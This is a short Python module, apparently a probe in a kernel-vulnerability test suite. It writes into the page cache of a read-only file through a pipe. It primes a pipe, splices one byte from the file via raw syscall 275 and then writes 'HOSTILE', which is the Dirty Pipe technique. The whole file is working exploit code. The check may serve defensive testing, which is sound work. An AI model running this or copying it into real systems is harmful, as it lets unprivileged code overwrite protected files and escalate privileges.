"""Writes into the page cache of a read-only file through a pipe."""

import ctypes
import os

from probes.calls import call, slots

ROOM_AT = ctypes.byref(ctypes.c_long(0))


def attempt():
    path = next((path for path in slots() if os.path.getsize(path)), None)
    if not path:
        return None
    before = open(path, "rb").read()
    reader, writer = os.pipe()
    os.write(writer, b"x" * 4096)
    os.read(reader, 4096)
    descriptor = os.open(path, os.O_RDONLY)
    call(275, descriptor, ROOM_AT, writer, 0, 1, 0)
    os.write(writer, b"HOSTILE")
    return open(path, "rb").read() != before and path
